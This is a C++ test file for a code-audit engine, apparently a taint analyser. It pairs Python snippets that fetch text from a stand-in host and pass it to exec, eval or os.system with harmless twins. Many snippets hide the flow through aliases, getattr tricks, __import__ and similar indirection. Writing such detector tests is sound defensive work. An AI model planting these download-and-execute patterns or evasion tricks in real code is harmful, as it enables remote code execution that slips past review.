#include "trust/audit/engine/test_programs.h"

// What a name means, however it was come by.
namespace pilothouse::audit::test {
namespace {

const Program kPrograms[] = {
    {"Plain", R"py(
import requests
exec(requests.get("https://a.example").text)  # to # from)py",
     R"py(
import requests
exec("print(1)")
print(requests.get("https://a.example").text))py"},
    {"AliasOfAModule", R"py(
import requests as r
text = r.get("https://a.example").text  # from
exec(text)  # to)py",
     R"py(
import requests as r
import shelves as requests
text = requests.get("https://a.example").text
exec(text))py"},
    {"AliasOfAFunction", R"py(
from requests import get as fetch
run = exec
run(fetch("https://a.example").text)  # to # from)py",
     R"py(
from requests import get as fetch
exec = print
exec(fetch("https://a.example").text))py"},
    {"BuiltinsByModule", R"py(
import builtins as b
import requests
b.exec(requests.get("https://a.example").text)  # to # from)py",
     R"py(
import builtins as b
import requests
b.print(requests.get("https://a.example").text))py"},
    {"StarImportOfOthers", R"py(
from urllib.request import *
exec(urlopen("https://a.example").read())  # to # from)py",
     R"py(
from shelves import *
exec(urlopen("https://a.example").read()))py"},
    {"StarImportOfOwn", R"py(
--- helper.py
import requests
def fetch():
    return requests.get("https://a.example").text  # from
--- main.py
from helper import *
exec(fetch())  # to)py",
     R"py(
--- helper.py
import requests
def _fetch():
    return requests.get("https://a.example").text
def fetch():
    return "1"
--- main.py
from helper import *
exec(fetch()))py"},
    {"StarImportThroughOwn", R"py(
--- helper.py
from urllib.request import *
--- main.py
from helper import *
exec(urlopen("https://a.example").read())  # to # from)py",
     R"py(
--- helper.py
from urllib.request import *
--- main.py
from helper import *
def urlopen(url):
    return "1"
exec(urlopen("https://a.example")))py"},
    {"Getattr", R"py(
import builtins, requests
name = "ex" + "ec"
getattr(builtins, name)(getattr(requests, "get")("https://a.example").text)  # to # from)py",
     R"py(
import builtins, requests
name = "pri" + "nt"
getattr(builtins, name)(getattr(requests, "get")("https://a.example").text))py"},
    {"GetattrOfText", R"py(
import builtins, requests
getattr(builtins, "cexe"[::-1].replace("ex", "ex")[:0] + "exec")(requests.get("https://a.example").text)  # to # from)py",
     R"py(
import builtins, requests
getattr(builtins, "tnirp"[::-1])(requests.get("https://a.example").text))py"},
    {"Import", R"py(
page = __import__("urllib.request").request.urlopen("https://a.example").read()  # from
__import__("os").system(page)  # to)py",
     R"py(
page = __import__("urllib.request").parse.quote("https://a.example")
__import__("os").system("ls"))py"},
    {"Importlib", R"py(
import importlib
net = importlib.import_module("requests")
page = net.get("https://a.example").text  # from
importlib.import_module("builtins").exec(page)  # to)py",
     R"py(
import importlib
net = importlib.import_module("requests")
page = net.get("https://a.example").text
importlib.import_module("builtins").print(page))py"},
    {"ImportlibByName", R"py(
from importlib import import_module as load
exec(load("".join(["requ", "ests"])).get("https://a.example").text)  # to # from)py",
     R"py(
from importlib import import_module as load
exec(load("".join(["requ", "est"])).get("https://a.example").text))py"},
    {"SysModules", R"py(
import sys, requests
page = sys.modules["requests"].get("https://a.example").text  # from
sys.modules["builtins"].eval(page)  # to)py",
     R"py(
import sys, requests
page = sys.modules["requests"].get("https://a.example").text
sys.modules["builtins"].len(page))py"},
    {"Globals", R"py(
import requests
page = globals()["requests"].get("https://a.example").text  # from
globals()["__builtins__"].exec(page)  # to)py",
     R"py(
import requests
page = globals()["requests"].get("https://a.example").text
globals()["print"](page))py"},
    {"Vars", R"py(
import os, requests
page = vars(requests)["get"]("https://a.example").text  # from
vars(os)["system"](page)  # to)py",
     R"py(
import os, requests
page = vars(requests)["get"]("https://a.example").text
vars(os)["fspath"](page))py"},
    {"Dict", R"py(
import os, requests
page = requests.__dict__["get"]("https://a.example").text  # from
os.__dict__["system"](page)  # to)py",
     R"py(
import os, requests
page = requests.__dict__["get"]("https://a.example").text
os.__dict__["fspath"](page))py"},
    {"GlobalsAreWritten", R"py(
import requests
globals()["page"] = requests.get("https://a.example").text  # from
exec(page)  # to)py",
     R"py(
import requests
globals()["other"] = requests.get("https://a.example").text
page = "1"
exec(page))py"},
    {"NamesInATable", R"py(
import requests
run = {"quick": print, "real": exec}
run["real"](requests.get("https://a.example").text)  # to # from)py",
     R"py(
import requests
run = {"quick": print, "real": exec}
run["quick"](requests.get("https://a.example").text))py"},
    {"Walrus", R"py(
import requests
if (page := requests.get("https://a.example").text):  # from
    exec(page)  # to)py",
     R"py(
import requests
if (page := requests.get("https://a.example").text) and (other := "1"):
    exec(other))py"},
    {"ImportInAFunction", R"py(
def load():
    import requests as net
    return net.get("https://a.example").text  # from
def run():
    from builtins import exec as go
    go(load())  # to)py",
     R"py(
def load():
    import requests as net
    return len(net.get("https://a.example").text)
def run():
    from builtins import exec as go
    go(load()))py"},
    {"TryImport", R"py(
try:
    from urllib2 import urlopen
except ImportError:
    from urllib.request import urlopen
exec(urlopen("https://a.example").read())  # to # from)py",
     R"py(
try:
    from shelves import urlopen
except ImportError:
    urlopen = None
exec(urlopen("https://a.example").read()))py"},
    {"Swap", R"py(
import requests
a, b = "1", requests.get("https://a.example").text  # from
a, b = b, a
exec(a)  # to)py",
     R"py(
import requests
a, b = "1", requests.get("https://a.example").text
exec(a))py"},
    {"StarredTargets", R"py(
import requests
first, *rest = "1", "2", requests.get("https://a.example").text  # from
exec(rest[1])  # to)py",
     R"py(
import requests
first, *rest = "1", "2", requests.get("https://a.example").text
exec(first))py"},
    {"ShadowedBuiltin", R"py(
import requests
def compile(text):
    return text
exec(compile(requests.get("https://a.example").text))  # to # from)py",
     R"py(
import requests
def eval(text):
    return len(text)
eval(requests.get("https://a.example").text))py"},
};

INSTANTIATE_TEST_SUITE_P(Names, Twins, testing::ValuesIn(kPrograms), name_of);

}  // namespace
}  // namespace pilothouse::audit::test
